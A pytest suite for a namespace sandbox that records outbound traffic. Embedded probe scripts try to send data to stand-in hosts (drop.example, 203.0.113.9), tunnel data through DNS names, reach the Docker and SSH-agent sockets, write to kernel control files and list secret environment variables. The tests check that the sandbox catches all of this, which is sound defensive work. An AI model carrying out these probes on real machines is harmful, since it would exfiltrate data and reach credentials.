"""Nothing leaves a sinkhole, and what wanted to is noted."""

from __future__ import annotations

import asyncio
import base64
import json
import os
import socket
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from proxy.probe.canary import make_home
from proxy.probe.sinkhole import IMPOSSIBLE, Sinkhole, environment, plan_sinkhole
from proxy.sandbox.namespaces import DEVICE_LINKS, DEVICES
from proxy.sandbox.server_process import start_server
from tests.support.system_needs import needs, needs_namespaces
from tests.support.timeouts import PATIENCE

pytestmark = [needs("ip", "unshare"), needs_namespaces]

INSIDE = r"""
import json, os, resource, socket, ssl, subprocess, sys, urllib.request
said = {}
def attempt(name, work):
    try:
        said[name] = work()
    except Exception as error:
        said[name] = f"{type(error).__name__}: {error}"
def send(family, address, data):
    with socket.socket(family) as client:
        client.settimeout(60); client.connect(address); client.sendall(data)
        return "sent"
def ask(server, name):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(60); client.connect((server, 53))
        client.send(b"\0\7\1\0\0\1\0\0\0\0\0\0" + bytes([len(name)]) + name + b"\2ex\0\0\1\0\1")
        return len(client.recv(512))
outside, sockets, state = sys.argv[1:4]
attempt("https", lambda: urllib.request.urlopen(
    urllib.request.Request("https://drop.example/in?x=1", data=b"body of it"), timeout=60).read().decode())
attempt("raw", lambda: send(socket.AF_INET, ("203.0.113.9", 4567), b"raw bytes"))
attempt("raw6", lambda: send(socket.AF_INET6, ("2001:db8::5", 4568), b"raw bytes six"))
attempt("dns", lambda: ask("8.8.8.8", b"datainname"))
attempt("docker", lambda: send(socket.AF_UNIX, "/var/run/docker.sock", b"GET /containers"))
attempt("agent", lambda: send(socket.AF_UNIX, os.environ["SSH_AUTH_SOCK"], b"keys?"))
attempt("outside socket", lambda: send(socket.AF_UNIX, sockets, b"hello"))
attempt("outside port", lambda: send(socket.AF_INET, ("127.0.0.1", int(outside)), b"hello"))
attempt("etc", lambda: open("/etc/interlock-probe", "w").close())
attempt("tmp", lambda: open("/tmp/interlock-probe", "w").close())
attempt("home", lambda: open(os.path.expanduser("~/mine"), "w").write("x"))
attempt("state", lambda: os.listdir(state))
attempt("memory", lambda: len(bytearray(5 << 30)))
attempt("disk", lambda: resource.getrlimit(resource.RLIMIT_FSIZE))
attempt("unmount", lambda: subprocess.run(["umount", "/run"], capture_output=True).returncode)
attempt("links", lambda: [name for _, name in socket.if_nameindex()])
attempt("parent", lambda: os.readlink("/proc/1/exe"))
def can(*paths):
    return [path for path in paths if os.path.exists(path) and not os.path.isdir(path) and is_open(path)]
def is_open(path):
    try:
        os.close(os.open(path, os.O_WRONLY))
    except OSError:
        return False
    return True
attempt("machine", lambda: can("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/kernel/hostname"))
attempt("devices", lambda: sorted(os.listdir("/dev")))
attempt("null", lambda: open("/dev/null", "w").write("x") + len(os.urandom(4)) + len(open("/dev/zero", "rb").read(2)))
attempt("terminals", lambda: os.listdir("/dev/pts"))
attempt("own", lambda: can("/proc/self/oom_score_adj"))
attempt("terminal", lambda: os.write(os.openpty()[0], b"x"))
attempt("variables", lambda: sorted(name for name in os.environ if "SECRET" in name))
print(json.dumps(said))
"""


LAST_WORDS = r"""
import os, socket
sent = []
def send(family, kind, address, data):
    sent.append(client := socket.socket(family, kind))
    client.connect(address)
    client.send(data)
send(socket.AF_UNIX, socket.SOCK_STREAM, "/run/docker.sock", b"last of unix")
send(socket.AF_INET, socket.SOCK_STREAM, ("203.0.113.9", 443), b"last of tcp")
send(socket.AF_INET, socket.SOCK_DGRAM, ("8.8.8.8", 53), b"\0\7\1\0\0\1\0\0\0\0\0\0\4last\2ex\0\0\1\0\1")
os.write(1, b"{}")
os._exit(0)
"""


@dataclass
class Result:
    said: dict[str, Any]
    notes: list[dict[str, Any]]
    home: Path
    code: int
    problem: str

    def noted(self, kind: str, **fields: Any) -> list[dict[str, Any]]:
        return [
            note for note in self.notes if note["kind"] == kind and all(note.get(k) == v for k, v in fields.items())
        ]


async def run_inside(folder: Path, state: Path, *words: str, script: str = INSIDE) -> Result:
    home, run = make_home(folder / "home"), folder / "run"
    run.mkdir()
    sinkhole = Sinkhole(
        str(run),
        str(home.folder),
        (sys.executable, "-I", "-c", script, *words, str(state)),
        environment(home.folder, run, {}, os.environ["PATH"]),
        str(folder),
        str(Path.home()),
        str(state),
    )
    launch = plan_sinkhole(sinkhole)
    reading = os.open(sinkhole.file("notes"), os.O_RDONLY | os.O_NONBLOCK)
    try:
        server = await start_server(launch)
        out = b""
        while data := await asyncio.wait_for(server.read(), PATIENCE):
            out += data
        code = await asyncio.wait_for(server.ended(), PATIENCE)
        noted = os.read(reading, 1 << 20) if code == 0 else b""
        assert out or code, sinkhole.file("stderr").read_text()
        notes = [json.loads(line) for line in noted.splitlines()]
        return Result(json.loads(out or "{}"), notes, home.folder, code, sinkhole.file("problem").read_text())
    finally:
        os.close(reading)


@pytest.fixture(scope="module")
def result(tmp_path_factory: pytest.TempPathFactory) -> Result:
    folder = tmp_path_factory.mktemp("sinkhole")
    (folder / "state").mkdir()
    (folder / "state" / "key").write_text("secret")
    with socket.create_server(("127.0.0.1", 0)) as port, socket.socket(socket.AF_UNIX) as listener:
        listener.bind(path := str(folder / "outside.sock"))
        listener.listen()
        return asyncio.run(run_inside(folder, folder / "state", str(port.getsockname()[1]), path))


def test_a_request_is_read_inside_tls_and_answered(result: Result) -> None:
    assert "Welcome" in result.said["https"]
    (note,) = result.noted("tcp", name="drop.example", port=443, tls=True)
    head = base64.b64decode(note["head"])
    assert head.startswith(b"POST /in?x=1 HTTP/1.1")
    assert head.endswith(b"body of it")


def test_names_are_noted_whoever_is_asked(result: Result) -> None:
    assert result.noted("dns", name="drop.example", type="A")
    assert result.said["dns"] > 20
    assert result.noted("dns", name="datainname.ex")


@pytest.mark.parametrize(
    ("address", "port", "data"), [("203.0.113.9", 4567, b"raw bytes"), ("2001:db8::5", 4568, b"raw bytes six")]
)
def test_what_is_sent_to_any_address_and_port_is_noted(result: Result, address: str, port: int, data: bytes) -> None:
    (note,) = result.noted("tcp", address=address, port=port)
    assert base64.b64decode(note["head"]) == data


def test_the_sockets_of_docker_and_of_the_ssh_agent_are_sinks(result: Result) -> None:
    heads = {Path(note["path"]).name: base64.b64decode(note["head"]) for note in result.noted("unix")}
    assert heads == {"docker.sock": b"GET /containers", "agent.sock": b"keys?"}


@pytest.mark.parametrize("run", range(3))
def test_what_a_server_sends_with_its_last_breath_is_noted(tmp_path: Path, run: int) -> None:
    (tmp_path / "state").mkdir()
    result = asyncio.run(run_inside(tmp_path, tmp_path / "state", script=LAST_WORDS))
    assert [base64.b64decode(note["head"]) for note in result.noted("unix")] == [b"last of unix"]
    assert [base64.b64decode(note["head"]) for note in result.noted("tcp")] == [b"last of tcp"]
    assert result.noted("dns", name="last.ex")


def test_nothing_outside_can_be_reached(result: Result) -> None:
    assert "Error" in result.said["outside socket"]
    assert "Error" in result.said["outside port"]
    assert result.said["links"] == ["lo"]


def test_nothing_outside_the_home_is_changed(result: Result) -> None:
    assert "Read-only" in result.said["etc"]
    assert not Path("/etc/interlock-probe").exists()
    assert result.said["tmp"] is None
    assert not Path("/tmp/interlock-probe").exists()
    assert (result.home / "mine").read_text() == "x"


def test_the_machine_is_not_set_and_its_devices_and_terminals_are_not_there(result: Result) -> None:
    assert result.said["machine"] == []
    assert set(result.said["devices"]) == {*DEVICES, *DEVICE_LINKS, "shm", "pts"}
    assert result.said["terminals"] == ["ptmx"]
    assert result.said["null"] == 7
    assert result.said["own"] == ["/proc/self/oom_score_adj"]
    assert result.said["terminal"] == 1


def test_our_own_state_is_hidden_and_cannot_be_uncovered(result: Result) -> None:
    assert result.said["state"] == []
    assert result.said["unmount"] != 0


def test_memory_and_files_are_bounded(result: Result) -> None:
    assert result.said["memory"].startswith("MemoryError")
    assert result.said["disk"] == [1 << 30, 1 << 30]


def test_the_callers_variables_stay_outside(result: Result) -> None:
    assert result.said["variables"] == []


@needs("setpriv")
def test_where_it_is_refused_that_is_the_exit_code(tmp_path: Path) -> None:
    (run := tmp_path / "run").mkdir()
    sinkhole = Sinkhole(
        str(run), str(tmp_path), ("/bin/true",), {"SSH_AUTH_SOCK": str(tmp_path / "s")}, "/", str(Path.home())
    )
    launch = plan_sinkhole(sinkhole)
    reading = os.open(sinkhole.file("notes"), os.O_RDONLY | os.O_NONBLOCK)
    forbid = 'echo 0 > /proc/sys/user/max_user_namespaces && exec setpriv --bounding-set=-all "$@"'
    done = subprocess.run(["unshare", "-Ur", "sh", "-c", forbid, "sh", *launch.argv], timeout=PATIENCE, check=False)
    os.close(reading)
    assert done.returncode == IMPOSSIBLE
    assert "not permitted" in sinkhole.file("problem").read_text()


def test_a_temporary_folder_with_mounts_in_it_is_laid_out_anew(tmp_path: Path) -> None:
    (run := tmp_path / "run").mkdir()
    home = make_home(tmp_path / "home").folder
    (tmp_path / "mounted").mkdir()
    (tmp_path / "seen").write_text("seen")
    script = f"touch /tmp/interlock-new && cat {tmp_path}/seen; touch {tmp_path}/seen 2>/dev/null || echo ' unwritable'"
    variables = {"SSH_AUTH_SOCK": str(home / "agent.sock"), "PATH": os.environ["PATH"]}
    sinkhole = Sinkhole(str(run), str(home), ("/bin/sh", "-c", script), variables, "/", str(Path.home()))
    launch = plan_sinkhole(sinkhole)
    reading = os.open(sinkhole.file("notes"), os.O_RDONLY | os.O_NONBLOCK)
    mounting = f'mount -t tmpfs none {tmp_path}/mounted && exec "$@"'
    done = subprocess.run(
        ["unshare", "-Urm", "sh", "-c", mounting, "sh", *launch.argv], capture_output=True, timeout=60, check=False
    )
    os.close(reading)
    assert sinkhole.file("problem").read_text() == ""
    assert done.stdout == b"seen unwritable\n", done.stderr
    assert not Path("/tmp/interlock-new").exists()


def test_files_and_folders_with_values_of_credentials_are_covered(tmp_path: Path) -> None:
    (run := tmp_path / "run").mkdir()
    (folder := tmp_path / "secrets").mkdir()
    home = make_home(tmp_path / "home").folder
    for path in (folder / "a", tmp_path / "b", tmp_path / "plain"):
        path.write_text(path.name)
    script = f"cat {folder}/a {tmp_path}/b {tmp_path}/plain 2>/dev/null; ls {folder}"
    variables = {"SSH_AUTH_SOCK": str(home / "agent.sock"), "PATH": os.environ["PATH"]}
    sinkhole = Sinkhole(
        str(run),
        str(home),
        ("/bin/sh", "-c", script),
        variables,
        "/",
        str(Path.home()),
        None,
        (str(folder), str(tmp_path / "b")),
    )
    launch = plan_sinkhole(sinkhole)
    reading = os.open(sinkhole.file("notes"), os.O_RDONLY | os.O_NONBLOCK)
    done = subprocess.run(launch.argv, capture_output=True, timeout=PATIENCE, check=False)
    os.close(reading)
    assert sinkhole.file("problem").read_text() == ""
    assert done.stdout == b"plain", done.stderr
